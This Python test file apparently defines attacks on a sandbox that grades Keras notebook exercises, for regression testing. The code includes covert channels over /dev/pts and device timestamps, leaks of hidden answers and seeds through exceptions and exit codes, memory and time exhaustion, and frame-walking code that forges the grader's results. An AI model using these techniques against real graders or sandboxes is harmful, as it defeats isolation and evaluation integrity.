"""Secrets carried from one process of a submission to another, found in a review of the sandbox.

The last two are known limits: what a process says of its own parameters, and of Keras drawing its
network, is its own word. Its numbers are not, so they gain at most what right numbers were denied.
"""

from tests.attacks.attack import (
    ANY,
    Attack,
    HostileCell,
    in_function,
    right,
    right_with,
    with_right_answer,
    wrong,
)

_FRAMES = """
import sys


def frames():
    frame = sys._getframe()
    while frame:
        yield frame
        frame = frame.f_back


def told_job():
    return next(f.f_locals["job"] for f in frames() if "job" in f.f_locals and "notebook" in f.f_locals)


def answer_text():
    # Any text of the lessons that is an answer; a process that runs this should hold none.
    import gc

    values = [v for each in gc.get_objects() if isinstance(each, dict) for v in list(each.values())]
    return next(v for v in values if isinstance(v, str) and "conv1 = self." + "custom_conv2d" in v)


def job_module():
    return next(f.f_globals for f in frames() if "probing" in f.f_globals)
"""
_SENDER = (
    _FRAMES
    + """
import os, fcntl, struct, time, tty


def send():
    text = answer_text().encode()
    ours = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
    fcntl.ioctl(ours, 0x40045431, struct.pack("i", 0))
    number = struct.unpack("i", fcntl.ioctl(ours, 0x80045430, bytes(4)))[0]
    theirs = os.open(f"/dev/pts/{number}", os.O_RDWR | os.O_NOCTTY)
    tty.setraw(theirs)
    os.write(ours, b"BEGIN" + text + b"END")
    time.sleep(4)


send()
"""
)
_RECEIVER = """
import keras, os, time
from keras import layers, ops


def fetch():
    until, seen = time.time() + 4, b""
    while time.time() < until:
        for number in os.listdir("/dev/pts"):
            try:
                file = os.open("/dev/pts/" + number, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
                seen += os.read(file, 4096)
                os.close(file)
            except OSError:
                pass
        if b"END" in seen:
            return seen.split(b"BEGIN")[-1].split(b"END")[0].decode()
        time.sleep(0.05)
    return "def regular_block(*arguments): raise ValueError"


exec(fetch())
"""
_TIMES = """
seed = next(f.f_locals["asked"]["seed"] for f in frames() if "asked" in f.f_locals)
names = ("null", "zero", "full", "random", "urandom")
if seed != 2015 and not done:
    done.append(1)
    for place, name in enumerate(names):
        os.utime("/dev/" + name, ns=(0, ((seed >> 8 * place) & 255) * 10**9))
if seed == 2015:
    low = sum((os.stat("/dev/" + n).st_mtime_ns // 10**9 % 256) << 8 * i for i, n in enumerate(names))
    raise ValueError("HIDDEN" + f"-SEED-{low}")
"""
_PIPES = """
import ctypes, fcntl, mmap
library = ctypes.CDLL(None)
held = []
for _ in range(20):
    reader, writer = os.pipe()
    pages = mmap.mmap(-1, 64 << 20)
    pages.madvise(14)
    for place in range(16):
        pages[place << 22] = 1
        vector = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.c_char.from_buffer(pages, place << 22)), 1)
        if library.vmsplice(writer, vector, 1, 2) < 0:
            raise OSError("refused")
    held.append((reader, writer))
"""
_FORGE_SHAPES = (
    _FRAMES
    + """

def forge():
    module = job_module()
    send = module["send"]

    def forged(connection, header, arrays=()):
        if "observed" in header:
            failure = {"kind": "addition", "message": "", "line": "", "shapes": [[None, 1], [2, 2]]}
            for outcome in header["outcomes"]:
                outcome.update(results=0, failure=failure)
            arrays = ()
        send(connection, header, arrays)

    module["send"] = forged


forge()
"""
)

ATTACKS = (
    Attack(
        "two_notebooks_by_terminal",
        "one notebook sends a reference to another of the same student over a terminal in /dev/pts",
        (HostileCell(_RECEIVER, "regular_block"),),
        others=(
            (
                "03_block_layers.ipynb",
                (HostileCell(_SENDER), HostileCell(right("block_layer"), "block_layer")),
            ),
        ),
        target="regular_block",
        passes=("block_layer",),
    ),
    in_function(
        "times_of_devices",
        "stores the hidden seed in the times of devices, and tells it in the next process",
        _TIMES,
        before=f"import os\n{_FRAMES}\ndone = []",
        forbidden=("HIDDEN-SEED-",),
    ),
    in_function(
        "status_from_input",
        "ends with a status made of a hidden input, which the report would tell",
        "import os\nos._exit(40 + int(abs(float(inputs[0, 0, 0, 0])) * 1e4) % 60)",
    ),
    Attack(
        "reference_in_exception",
        "raises an exception whose text is the reference of an exercise that was judged before",
        (
            HostileCell(wrong("pre_activation"), "pre_activation"),
            HostileCell(
                wrong(
                    "bottleneck_block",
                    'raise ValueError("LO" + "OT-" + code[-200:])',
                    _FRAMES + "\ncode = answer_text()",
                ),
                "bottleneck_block",
            ),
        ),
        target="bottleneck_block",
        forbidden=("LOOT-", "BatchNormalization(axis="),
    ),
    Attack(
        "many_short_sleeps",
        "sleeps a little less than the time limit in each of forty cells",
        (
            *(HostileCell(f"import time\ntime.sleep(4.5)  # {number}") for number in range(40)),
            HostileCell(wrong("pre_activation"), "pre_activation"),
        ),
    ),
    in_function(
        "pinned_memory",
        "pins huge pages in pipes, where no limit of memory counts them",
        _PIPES,
        before="import os",
    ),
    Attack(
        "shapes_without_numbers",
        "sends shapes of which one length is nothing, so that sorting them fails",
        (HostileCell(_FORGE_SHAPES), HostileCell(wrong("pre_activation"), "pre_activation")),
    ),
    with_right_answer(
        "forged_parameters",
        "known limit: has right numbers and a layer too many, and hides that layer's parameters",
        "layers.Dense(3)(ops.zeros((1, 4)))\n"
        "for frame in frames():\n"
        '    if "method" in frame.f_locals and hasattr(frame.f_locals["method"], "weights"):\n'
        '        del frame.f_locals["method"].weights.variables[:2]',
        before=f"from keras import layers, ops\n{_FRAMES}\n"
        'vars(job_module()["probing"])["symbolic_failure"] = lambda *arguments: None',
        target="regular_block",
    ),
    Attack(
        "forged_drawing",
        "known limit: has right numbers and calls tf.nn.relu, and says that Keras could draw it",
        (
            HostileCell(
                f"import tensorflow as tf\n{_FRAMES}\n"
                'vars(job_module()["probing"])["symbolic_failure"] = lambda *arguments: None'
            ),
            HostileCell(
                right_with("pre_activation").replace("ops.relu(", "tf.nn.relu("), "pre_activation"
            ),
        ),
        verdicts=ANY,
        share=1.0,
    ),
)
